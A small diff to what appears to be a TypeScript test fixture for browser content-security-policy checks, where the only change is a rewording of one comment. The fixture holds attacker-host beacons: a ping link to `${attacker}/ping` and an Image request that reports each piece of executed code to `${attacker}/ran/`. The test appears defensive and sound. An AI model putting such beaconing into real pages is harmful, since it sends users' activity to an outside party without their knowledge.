@@ -25,7 +25,7 @@ export const attackPages = (attacker: string): Record<string, string> => ({
 <a id="ping" href="#ping" ping="${attacker}/ping">ping</a>
 <script type="module" src="./attack.js"></script>
 </body></html>`,
-  // Code that ran is remembered, and told to the attacker: the page may be led away before it is asked.
+  // Code that ran is recorded, and reported to the attacker: the page may be led away before it is asked.
   'start.js': `globalThis.taken = { finished: false, ran: [], stopped: [] };
 globalThis.ran = (name) => { taken.ran.push(name); new Image().src = '${attacker}/ran/' + name; };
 addEventListener('securitypolicyviolation', (event) => taken.stopped.push(event.blockedURI));`,
